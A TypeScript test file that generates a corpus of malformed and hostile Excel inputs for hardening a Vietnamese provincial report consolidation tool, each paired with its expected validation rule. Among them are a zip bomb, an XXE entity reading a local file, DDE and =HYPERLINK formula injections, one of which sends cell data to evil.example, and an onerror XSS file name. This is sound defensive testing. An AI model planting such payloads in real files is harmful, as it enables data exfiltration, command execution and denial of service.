/**
 * The bad-input corpus: files of every kind provincial offices (or someone hostile) may put in the
 * folder, each with the outcome the consolidation must give: the rule, and the sheet and cell
 * its message must name, or "accepted". Written into a temp folder at test time, beside a few
 * good province files whose indicators must come out unchanged.
 *
 * `npx tsx tests/hardening/corpus.ts <dir>` writes it for a look by hand.
 */
import { mkdirSync, writeFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { pathToFileURL } from 'node:url';
import ExcelJS from 'exceljs';
import { FORMS, TARGETS_SHEET } from '../../core/forms';
import { FORM_LAYOUT, TITLE_BLOCK, totalRowOf } from '../../core/layout';
import { parsePeriod } from '../../core/periods';
import { type Submission } from '../../core/submission';
import { cellAddress } from '../../core/spreadsheet';
import { writeSubmissionWorkbook } from '../../core/xlsx';
import { loadRegistry, loadTargets } from '../../pipeline/reference';
import { provinceSubmission } from '../pipeline/fixtures';
import { partText, readZip, streamedPart, textPart, withParts, writeZip, type ZipPart } from './zip';

export const CORPUS_PERIOD = parsePeriod('2026-H1');
/** Clean province reports placed beside the bad files. */
export const GOOD_PROVINCES = ['01', '51', '79'] as const;

export interface Expected {
  rule: string;
  /** Sheet and cell the issue must name; null where the issue is about the whole file. */
  sheet: string | null;
  cell: string | null;
  /** What makes the message specific (Vietnamese text). */
  says?: RegExp;
}

export interface CorpusCase {
  kind: string;
  /** Name in the corpus folder. */
  file: string;
  /** The issue the file must get, or 'accepted' when it is a good report after all. */
  expect: Expected | 'accepted';
}

export interface Corpus {
  dir: string;
  goodFiles: string[];
  cases: CorpusCase[];
  /** A file an XML external entity points at; its text must never turn up anywhere. */
  canary: { path: string; text: string };
}

const registry = loadRegistry();
const targets = loadTargets();
const F03 = FORMS.F03.sheetName;
const F04 = FORMS.F04.sheetName;
const REPORT_DATE = '2026-06-15';
const SHEET1 = 'xl/worksheets/sheet1.xml';

// ---------------------------------------------------------------------------------------------
// Building blocks

function submission(code: string, period = CORPUS_PERIOD.code, seed = Number(code)): Submission {
  return provinceSubmission(registry, code, period, { reportDate: period === CORPUS_PERIOD.code ? REPORT_DATE : `${period}-20`, seed });
}

async function workbook(sub: Submission): Promise<Uint8Array> {
  const period = parsePeriod(sub.period);
  return writeSubmissionWorkbook(sub, registry, { targetOf: (code) => targets.targetOfRow(code, period) });
}

/** A province's report with `edit` applied in ExcelJS, as a person editing in a spreadsheet would. */
async function edited(code: string, edit: (wb: ExcelJS.Workbook) => void): Promise<Uint8Array> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load((await workbook(submission(code))) as unknown as ArrayBuffer);
  edit(wb);
  return new Uint8Array((await wb.xlsx.writeBuffer()) as ArrayBuffer);
}

const sheet = (wb: ExcelJS.Workbook, name: string) => wb.getWorksheet(name)!;
/** The row of the n-th unit (0 = the provincial office). */
const unitRow = (n: number) => FORM_LAYOUT.firstDataRow + n;

async function zipEdited(code: string, edit: (parts: ZipPart[]) => Promise<ZipPart[]> | ZipPart[]): Promise<Uint8Array> {
  return writeZip(await edit(readZip(await workbook(submission(code)))));
}

/** A compound file (OLE2) holding streams of these names: how .xls and encrypted .xlsx begin. */
function compoundFile(streams: string[]): Uint8Array {
  const header = Buffer.alloc(512);
  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(header);
  header.writeUInt16LE(0x3e, 24); // minor version
  header.writeUInt16LE(3, 26); // major version 3: 512-byte sectors
  header.writeUInt16LE(0xfffe, 28); // byte order
  header.writeUInt16LE(9, 30); // sector shift
  header.writeUInt16LE(6, 32); // mini sector shift
  header.writeUInt32LE(1, 44); // one FAT sector
  header.writeUInt32LE(0, 48); // directory starts at sector 0
  header.writeUInt32LE(4096, 56); // mini stream cutoff
  header.writeInt32LE(-2, 60);
  header.writeInt32LE(-2, 68);
  const directory = Buffer.alloc(512);
  ['Root Entry', ...streams].forEach((name, i) => {
    const at = i * 128;
    directory.write(name, at, 'utf16le');
    directory.writeUInt16LE((name.length + 1) * 2, at + 64);
    directory.writeUInt8(i === 0 ? 5 : 2, at + 66); // root storage, then streams
  });
  return new Uint8Array(Buffer.concat([header, directory, Buffer.alloc(512)]));
}

const WORKSHEET_OPEN = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>';
const WORKSHEET_CLOSE = '</sheetData></worksheet>';

/** A worksheet of `rows` rows, generated in slices so that it is never whole in memory. */
function* millionRows(rows: number, row: (r: number) => string): Generator<string> {
  yield WORKSHEET_OPEN;
  const slice = 10_000;
  for (let first = 1; first <= rows; first += slice) {
    let text = '';
    for (let r = first; r < Math.min(first + slice, rows + 1); r++) text += row(r);
    yield text;
  }
  yield WORKSHEET_CLOSE;
}

function* zeros(megabytes: number): Generator<Uint8Array> {
  const block = new Uint8Array(1024 * 1024);
  for (let i = 0; i < megabytes; i++) yield block;
}

// ---------------------------------------------------------------------------------------------

interface CaseSpec {
  kind: string;
  /** Defaults to `<kind>.xlsx`. */
  file?: string;
  expect: Expected | 'accepted';
  /** Bytes of the file; null for a folder named like a workbook. */
  build: () => Promise<Uint8Array | null>;
}

const at = (rule: string, sheetName: string | null, cell: string | null, says?: RegExp): Expected => ({ rule, sheet: sheetName, cell, says });

/** Every kind of bad input, each from its own province where the outcome could be "accepted". */
function specs(canary: string): CaseSpec[] {
  const rows = (code: string) => registry.reportRows(code, CORPUS_PERIOD).length;
  const cell = (n: number, no: number) => cellAddress(unitRow(n), FORM_LAYOUT.firstDataColumn + no - 1);
  const setValue = (code: string, n: number, no: number, value: ExcelJS.CellValue) =>
    edited(code, (wb) => void (sheet(wb, F03).getCell(cell(n, no)).value = value));
  const extraUnit = (code: string) => {
    const sub = submission(code);
    const table = sub.forms.F03!;
    table.rows.push({ ...table.rows[1], unitCode: `${code}99`, unitName: 'BHXH cơ sở không có trong danh mục', sheetRow: unitRow(table.rows.length) });
    return sub;
  };
  return [
    { kind: 'not-a-zip', expect: at('L00', null, null, /không phải tệp Excel/), build: async () => Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52, 0xff, 0x00]) },
    { kind: 'truncated-zip', expect: at('L00', null, null, /không đầy đủ/), build: async () => (await workbook(submission('04'))).slice(0, 6000) },
    {
      kind: 'damaged-part',
      expect: at('L00', F03, null, /trang "Mẫu 03" không giải nén được/),
      build: () => zipEdited('08', (parts) => parts.map((p) => (p.name === SHEET1 ? { ...p, compressed: p.compressed.slice(0, p.compressed.length >> 1) } : p))),
    },
    { kind: 'password-protected', expect: at('L00', null, null, /mật khẩu/), build: async () => compoundFile(['EncryptionInfo', 'EncryptedPackage', '\u0006DataSpaces']) },
    { kind: 'xls-renamed', expect: at('L00', null, null, /97–2003/), build: async () => compoundFile(['Workbook', '\u0005SummaryInformation']) },
    {
      kind: 'csv-renamed',
      expect: at('L00', null, null, /CSV/),
      build: async () => new TextEncoder().encode('\uFEFFMã đơn vị,Tên đơn vị,(1),(2)\n5100,Văn phòng BHXH tỉnh,3,4\n'),
    },
    { kind: 'html-renamed', expect: at('L00', null, null, /HTML/), build: async () => new TextEncoder().encode('<html><head><meta charset="utf-8"></head><body><table><tr><td>Mẫu 03</td></tr></table></body></html>') },
    {
      kind: 'xml-spreadsheet-2003',
      expect: at('L00', null, null, /XML Spreadsheet 2003/),
      build: async () => new TextEncoder().encode('<?xml version="1.0"?>\n<?mso-application progid="Excel.Sheet"?>\n<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="Mẫu 03"/></Workbook>'),
    },
    {
      kind: 'docx-renamed',
      expect: at('L00', null, null, /Word/),
      build: async () => writeZip([textPart('[Content_Types].xml', '<Types/>'), textPart('word/document.xml', '<w:document/>')]),
    },
    { kind: 'empty-file', expect: at('L00', null, null, /rỗng/), build: async () => new Uint8Array(0) },
    {
      kind: 'oversized-file',
      expect: at('L14', null, null, /tệp nặng 21 MB/),
      build: async () => {
        const bytes = new Uint8Array(21 * 1024 * 1024);
        bytes.set([0x50, 0x4b, 0x03, 0x04]);
        return bytes;
      },
    },
    { kind: 'directory', file: 'thu-muc.xlsx', expect: at('P02', null, null, /thư mục/), build: async () => null },
    {
      kind: 'missing-sheet',
      expect: at('L01', null, null, /Thiếu trang tính "Mẫu 04"/),
      build: () => edited('11', (wb) => wb.removeWorksheet(sheet(wb, F04).id)),
    },
    {
      kind: 'renamed-sheet',
      expect: at('L01', null, null, /"Mẫu 03"/),
      build: () => edited('12', (wb) => void (sheet(wb, F03).name = 'Mau 03')),
    },
    {
      kind: 'nfd-sheet-names',
      expect: 'accepted',
      build: () =>
        edited('14', (wb) => {
          for (const name of [F03, F04, TARGETS_SHEET]) sheet(wb, name).name = name.normalize('NFD');
        }),
    },
    {
      kind: 'case-and-spaces-in-sheet-names',
      expect: 'accepted',
      build: () =>
        edited('15', (wb) => {
          // Through a neutral name: ExcelJS, like Excel, refuses a name equal but for case.
          for (const [from, to] of [[F03, 'MẪU 03'], [F04, 'mẫu  04']]) {
            const ws = sheet(wb, from);
            ws.name = 'tmp';
            ws.name = to;
          }
        }),
    },
    { kind: 'shifted-columns', expect: at('L03', F03, 'E9', /lệch cột/), build: () => edited('19', (wb) => sheet(wb, F03).spliceColumns(FORM_LAYOUT.firstDataColumn, 0, [])) },
    {
      kind: 'extra-unit-row',
      expect: at('V14', F03, `B${unitRow(rows('20'))}`, /2099/),
      build: () => workbook(extraUnit('20')),
    },
    {
      kind: 'hidden-extra-row',
      expect: at('V14', F03, `B${unitRow(rows('22'))}`, /2299/),
      build: async () => {
        const wb = new ExcelJS.Workbook();
        await wb.xlsx.load((await workbook(extraUnit('22'))) as unknown as ArrayBuffer);
        sheet(wb, F03).getRow(unitRow(rows('22'))).hidden = true;
        return new Uint8Array((await wb.xlsx.writeBuffer()) as ArrayBuffer);
      },
    },
    { kind: 'row-without-code', expect: at('L07', F03, 'B11', /không có mã đơn vị/), build: () => edited('24', (wb) => void (sheet(wb, F03).getCell('B11').value = null)) },
    {
      kind: 'duplicate-unit-rows',
      expect: at('L08', F03, 'B12', /hai hàng/),
      build: () => edited('25', (wb) => void (sheet(wb, F03).getCell('B12').value = sheet(wb, F03).getCell('B11').value)),
    },
    { kind: 'merged-code-cells', expect: at('L07', F03, 'B12'), build: () => edited('31', (wb) => sheet(wb, F03).mergeCells('B11:B12')) },
    {
      kind: 'merged-data-cells',
      // Conferences (4) in G10 merged over their attendees (5) in H10: the attendees are lost.
      expect: at('V03', F03, 'H10'),
      build: () =>
        edited('33', (wb) => {
          const ws = sheet(wb, F03);
          ws.getCell('G10').value = 5;
          ws.mergeCells('G10:H10');
        }),
    },
    { kind: 'text-in-number-cell', expect: at('V01', F03, 'D11', /văn bản \("năm"\)/), build: () => setValue('37', 1, 1, 'năm') },
    { kind: 'decimal', expect: at('V01', F03, 'E11', /số thập phân/), build: () => setValue('38', 1, 2, 12.5) },
    { kind: 'negative', expect: at('V01', F03, 'F11', /số âm/), build: () => setValue('40', 1, 3, -3) },
    {
      kind: 'date-in-number-cell',
      expect: at('V01', F03, 'G11', /ngày tháng/),
      // Typing a date makes Excel format the cell as a date too.
      build: () =>
        edited('42', (wb) => {
          const c = sheet(wb, F03).getCell(cell(1, 4));
          c.value = new Date(Date.UTC(2026, 2, 1));
          c.style = { ...c.style, numFmt: 'dd/mm/yyyy' }; // styles are shared objects: copy, not edit
        }),
    },
    { kind: 'ref-error', expect: at('V01', F03, 'H11', /#REF!/), build: () => setValue('44', 1, 5, { error: '#REF!' }) },
    { kind: 'div0-error', expect: at('V01', F03, 'I11', /#DIV\/0!/), build: () => setValue('46', 1, 6, { formula: '1/0', result: { error: '#DIV/0!' } } as ExcelJS.CellValue) },
    { kind: 'number-as-text-with-dots', expect: at('V01', F03, 'J11', /số lưu dạng văn bản \("1\.234"\)/), build: () => setValue('48', 1, 7, '1.234') },
    { kind: 'huge-string-1mb', expect: at('V01', F03, 'K11', /văn bản/), build: () => setValue('52', 1, 8, 'Ư'.repeat(1 << 20)) },
    {
      kind: 'huge-string-as-unit-code',
      expect: at('V14', F03, 'B11', /không thuộc 56/),
      build: () => edited('56', (wb) => void (sheet(wb, F03).getCell('B11').value = '5601'.repeat(1 << 18))),
    },
    {
      kind: 'unknown-unit',
      expect: at('V14', F03, null, /"99" không có trong danh mục/),
      build: () => workbook({ ...submission('56'), unitCode: '99' }),
    },
    {
      kind: 'expired-unit',
      expect: at('V14', F03, null, /không còn hiệu lực/),
      build: () => workbook({ ...submission('37'), unitCode: '35' }),
    },
    { kind: 'period-mismatch', expect: at('P01', null, null, /2026-05/), build: () => workbook(submission('66', '2026-05')) },
    {
      // Title blocks that disagree with each other (stale hidden metadata alone is only L18).
      kind: 'period-disagrees-inside-file',
      expect: at('L11', F03, null, /2025-H1/),
      build: () => edited('68', (wb) => void (sheet(wb, FORMS.F04.sheetName).getCell(cellAddress(TITLE_BLOCK.periodCode.row, TITLE_BLOCK.periodCode.column)).value = '2025-H1')),
    },
    {
      kind: 'total-row-wrong',
      expect: at('V12', F03, `D${totalRowOf(rows('75'))}`, /Tổng cộng/),
      build: () => {
        const sub = submission('75');
        const table = sub.forms.F03!;
        table.totalIsSumFormula = table.total!.values.map(() => false);
        table.total!.values[0] = (table.total!.values[0] as number) + 7;
        return workbook(sub);
      },
    },
    {
      kind: 'bad-report-date',
      expect: at('L10', F03, cellAddress(TITLE_BLOCK.reportDate.row, TITLE_BLOCK.reportDate.column), /31\/02\/2026/),
      build: () => edited('80', (wb) => void (sheet(wb, F03).getCell(TITLE_BLOCK.reportDate.row, TITLE_BLOCK.reportDate.column).value = '31/02/2026')),
    },
    {
      kind: 'million-rows',
      expect: at('L14', F03, null, /Mẫu 03/),
      build: () => zipEdited('82', async (parts) => withParts(parts, [await streamedPart(SHEET1, millionRows(1_000_000, (r) => `<row r="${r}"><c r="D${r}"><v>${r}</v></c></row>`))])),
    },
    {
      kind: 'million-empty-rows',
      expect: at('L14', F03, 'A5001', /hàng 5\.001/),
      build: () => zipEdited('86', async (parts) => withParts(parts, [await streamedPart(SHEET1, millionRows(1_000_000, (r) => `<row r="${r}"/>`))])),
    },
    {
      kind: 'zip-bomb',
      expect: at('L15', F03, null, /bom nén/),
      build: () => zipEdited('91', async (parts) => withParts(parts, [await streamedPart(SHEET1, zeros(200), 9)])),
    },
    {
      kind: 'zip-bomb-lying-size',
      expect: at('L15', F03, null, /khai báo .* nhưng giải nén ra nhiều hơn/),
      build: () =>
        zipEdited('92', async (parts) => {
          const original = parts.find((p) => p.name === SHEET1)!;
          const bomb = await streamedPart(SHEET1, zeros(200), 9);
          return withParts(parts, [{ ...bomb, size: original.size }]);
        }),
    },
    {
      kind: 'xml-external-entity',
      expect: at('L15', F03, null, /DTD/),
      build: () =>
        zipEdited('96', (parts) => {
          const xml = partText(parts.find((p) => p.name === SHEET1)!);
          return withParts(parts, [textPart(SHEET1, withExternalEntity(xml, canary))]);
        }),
    },
    {
      kind: 'formula-injection-in-names-and-comments',
      expect: 'accepted',
      build: () =>
        edited('92', (wb) => {
          const ws = sheet(wb, F03);
          ws.getCell('C10').value = '=HYPERLINK("http://evil.example/?d="&B10,"Bấm vào đây")';
          ws.getCell('C11').value = "+cmd|' /C calc'!A0";
          ws.getCell('C12').value = '@SUM(1+1)*cmd|\' /C calc\'!A0';
          ws.getCell('D10').note = '=HYPERLINK("http://evil.example","xem")';
          ws.getCell('E10').note = '-2+3+cmd|\' /C calc\'!A0';
        }),
    },
    { kind: 'formula-injection-in-number-cell', expect: at('V01', F03, 'D11', /=HYPERLINK/), build: () => setValue('04', 1, 1, '=HYPERLINK("http://evil.example","1")') },
    {
      kind: 'formula-injection-in-unit-code',
      expect: at('V14', F03, null, /không có trong danh mục/),
      build: () => workbook({ ...submission('08'), unitCode: '=HYPERLINK("HTTP://EVIL.EXAMPLE")' }),
    },
    {
      kind: 'formula-file-name',
      file: '=HYPERLINK("http:evil.example","bấm").xlsx',
      expect: at('L00', null, null, /CSV/),
      build: async () => new TextEncoder().encode('=1+1,@SUM(A1)\n'),
    },
    {
      kind: 'html-file-name',
      file: '<img src=x onerror=alert(1)>.xlsx',
      expect: at('L00', null, null, /không phải tệp Excel/),
      build: async () => Uint8Array.from([0, 1, 2, 3, 0xff, 0xfe]),
    },
  ];
}

/** A DTD declaring an external entity (pointing at `target`), the entity used as cell A1's text. */
export function withExternalEntity(worksheetXml: string, target: string): string {
  const dtd = `<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "${pathToFileURL(target).href}">]>`;
  const declaration = worksheetXml.startsWith('<?xml') ? worksheetXml.indexOf('?>') + 2 : 0;
  const body = worksheetXml.slice(declaration).replace(/<c r="A1"[^>]*?(\/>|>.*?<\/c>)/, '<c r="A1" t="inlineStr"><is><t>&xxe;</t></is></c>');
  return worksheetXml.slice(0, declaration) + dtd + body;
}

export async function writeCorpus(dir: string): Promise<Corpus> {
  mkdirSync(dir, { recursive: true });
  const canary = { path: join(dir, 'canary.txt'), text: `CANARY-${process.pid}-SECRET` };
  writeFileSync(canary.path, canary.text);
  const goodFiles: string[] = [];
  for (const code of GOOD_PROVINCES) {
    const file = `${code}_${CORPUS_PERIOD.code}.xlsx`;
    writeFileSync(join(dir, file), await workbook(submission(code)));
    goodFiles.push(file);
  }
  const cases: CorpusCase[] = [];
  for (const spec of specs(canary.path)) {
    const file = spec.file ?? `${spec.kind}.xlsx`;
    const bytes = await spec.build();
    if (bytes === null) mkdirSync(join(dir, file));
    else writeFileSync(join(dir, file), bytes);
    cases.push({ kind: spec.kind, file, expect: spec.expect });
  }
  return { dir, goodFiles, cases, canary };
}

if (process.argv[1] && import.meta.url === pathToFileURL(resolve(process.argv[1])).href) {
  const dir = process.argv[2];
  if (!dir) {
    console.error('npx tsx tests/hardening/corpus.ts <thư-mục / folder>');
    process.exit(2);
  }
  const corpus = await writeCorpus(resolve(dir));
  for (const c of corpus.cases) console.log(`${c.file}: ${c.expect === 'accepted' ? 'accepted' : `${c.expect.rule} ${c.expect.sheet ?? ''}${c.expect.cell ? `!${c.expect.cell}` : ''}`}`);
}
